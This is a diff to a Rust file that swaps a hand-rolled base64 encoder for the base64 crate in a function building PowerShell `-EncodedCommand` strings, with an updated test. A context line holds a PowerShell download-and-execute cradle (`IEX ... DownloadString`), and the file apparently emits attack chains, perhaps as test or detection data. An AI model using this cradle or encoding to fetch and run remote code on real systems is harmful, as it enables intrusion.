@@ -57,21 +57,9 @@ pub const PAYLOAD: &str = "IEX (New-Object Net.WebClient).DownloadString('http:/
 
 /// `-EncodedCommand` form of `script`: base64 of its UTF-16LE bytes.
 pub fn encode_command(script: &str) -> String {
+    use base64::Engine as _;
     let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
-    base64(&bytes)
-}
-
-fn base64(data: &[u8]) -> String {
-    const ABC: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
-    for c in data.chunks(3) {
-        let n =
-            (u32::from(c[0]) << 16) | (u32::from(*c.get(1).unwrap_or(&0)) << 8) | u32::from(*c.get(2).unwrap_or(&0));
-        for (i, shift) in [18, 12, 6, 0].into_iter().enumerate() {
-            out.push(if i <= c.len() { char::from(ABC[(n >> shift) as usize & 63]) } else { '=' });
-        }
-    }
-    out
+    base64::engine::general_purpose::STANDARD.encode(bytes)
 }
 
 /// Emits one instance of the chain; `n` makes its file names unique.
@@ -128,10 +116,7 @@ mod tests {
 
     #[test]
     fn encoded_command_is_base64_of_utf16le() {
-        assert_eq!(base64(b""), "");
-        assert_eq!(base64(b"f"), "Zg==");
-        assert_eq!(base64(b"fo"), "Zm8=");
-        assert_eq!(base64(b"foobar"), "Zm9vYmFy");
+        assert_eq!(encode_command(""), "");
         // What `[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes("dir"))` gives.
         assert_eq!(encode_command("dir"), "ZABpAHIA");
     }
